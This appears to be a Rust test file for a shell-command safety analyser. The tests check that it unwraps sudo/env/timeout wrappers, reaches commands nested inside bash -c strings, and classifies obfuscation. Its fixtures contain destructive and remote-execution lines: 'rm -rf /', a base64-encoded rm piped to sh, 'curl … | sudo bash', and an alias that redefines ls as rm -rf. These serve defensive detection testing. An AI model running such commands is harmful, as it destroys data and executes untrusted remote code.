use super::*;

fn views(line: &str) -> Vec<Vec<String>> {
    commands(line).into_iter().map(|c| c.views).collect()
}

/// Whether some command of `line` has `view` among its forms.
fn runs(line: &str, view: &str) -> bool {
    commands(line)
        .iter()
        .any(|c| c.views.iter().any(|v| v == view))
}

#[test]
fn wrappers_are_looked_through() {
    let cases: &[(&str, &str)] = &[
        ("sudo rm -rf /", "rm -rf /"),
        ("sudo -u root -E rm -rf /", "rm -rf /"),
        ("sudo -- rm x", "rm x"),
        ("env FOO=1 rm x", "rm x"),
        ("env -i -u HOME rm x", "rm x"),
        ("nohup rm x", "rm x"),
        ("time rm x", "rm x"),
        ("exec rm x", "rm x"),
        ("command rm x", "rm x"),
        ("nice -n 5 rm x", "rm x"),
        ("nice -5 rm x", "rm x"),
        ("timeout 10 rm x", "rm x"),
        ("timeout -s KILL 10 rm x", "rm x"),
        ("xargs -n1 rm", "rm"),
        ("sudo nice timeout 5 /usr/bin/rm x", "rm x"),
        ("/bin/../bin/rm x", "rm x"),
        ("/usr//bin/./rm x", "/usr/bin/rm x"),
        ("doas rm x", "rm x"),
    ];
    for (line, want) in cases {
        assert!(
            runs(line, want),
            "{line:?} should run {want:?}: {:?}",
            views(line)
        );
    }
}

#[test]
fn a_shell_asked_to_run_a_string_runs_its_commands() {
    for (line, want) in [
        ("bash -c 'rm -rf /'", "rm -rf /"),
        ("sh -c \"ls; rm x\"", "rm x"),
        ("bash -lc 'rm x'", "rm x"),
        ("sudo sh -c 'rm x'", "rm x"),
        ("su -c 'rm x' root", "rm x"),
        ("bash -c \"bash -c 'rm x'\"", "rm x"),
    ] {
        assert!(runs(line, want), "{line:?}: {:?}", views(line));
    }
}

#[test]
fn obfuscation_has_a_class() {
    let cases: &[(&str, &[Class])] = &[
        ("ls -l", &[]),
        ("eval \"$x\"", &[Class::Eval]),
        ("echo cm0gLXJmIC8= | base64 -d | sh", &[Class::PipeToShell]),
        ("curl -s http://x | sudo bash", &[Class::PipeToShell]),
        ("$cmd -rf /", &[Class::DynamicCommand]),
        ("`echo rm` -rf /", &[Class::DynamicCommand]),
        ("sh -c \"$payload\"", &[Class::DynamicCommand]),
        ("alias ls='rm -rf'", &[Class::Definition]),
        ("f() { rm x; }", &[Class::Definition]),
        ("bind -x '\"\\e[9999~\": echo ls'", &[Class::Definition]),
        ("trap 'rm x' EXIT", &[Class::Definition]),
        ("bindkey '^[[9999~' liar", &[Class::Definition]),
        ("zle -N liar", &[Class::Definition]),
        ("set -H", &[Class::Definition]),
        ("set -eH", &[Class::Definition]),
        ("set -o histexpand", &[Class::Definition]),
        ("set +H", &[]),
        ("set +o histexpand", &[]),
        ("cat x | grep y", &[]),
        ("bash script.sh", &[]),
    ];
    for (line, want) in cases {
        let mut got: Vec<Class> = commands(line).into_iter().flat_map(|c| c.classes).collect();
        got.sort();
        got.dedup();
        assert_eq!(&got, want, "{line:?}");
    }
}

#[test]
fn every_command_of_a_line_is_there_in_order() {
    let texts: Vec<String> = commands("ls; rm x && echo $(id) | tee y")
        .into_iter()
        .map(|c| c.text)
        .collect();
    assert_eq!(texts, ["ls", "rm x", "id", "echo $(..)", "tee y"]);
}

#[test]
fn class_names_round_trip() {
    for c in Class::ALL {
        assert_eq!(Class::parse(c.as_str()), Some(c));
    }
}

proptest::proptest! {
    #[test]
    fn never_panics(line in "\\PC{0,80}") {
        let _ = commands(&line);
    }
}

#[test]
fn channels_that_read_commands_from_stdin_are_known() {
    let table: &[(Option<&str>, bool)] = &[
        (None, true),
        (Some("bash"), true),
        (Some("/bin/sh -s"), true),
        (Some("bash -l"), true),
        (Some("cd /srv && exec bash -i"), true),
        (Some("sudo -i"), true),
        (Some("sudo -s"), true),
        (Some("sudo -u postgres -s"), true),
        (Some("sudo --login"), true),
        (Some("sudo -u postgres"), false),
        (Some("su"), true),
        (Some("su - postgres"), true),
        (Some("sudo bash"), true),
        (Some("env FOO=1 dash"), true),
        (Some("bash -c 'ls'"), false),
        (Some("bash -lc ls"), false),
        (Some("su -c id postgres"), false),
        (Some("bash script.sh"), false),
        (Some("sudo ls"), false),
        (Some("cat > /tmp/x"), false),
        (Some("ls -la"), false),
        (Some("python3"), false),
    ];
    for (command, want) in table {
        assert_eq!(reads_commands_from_stdin(*command), *want, "{command:?}");
    }
}
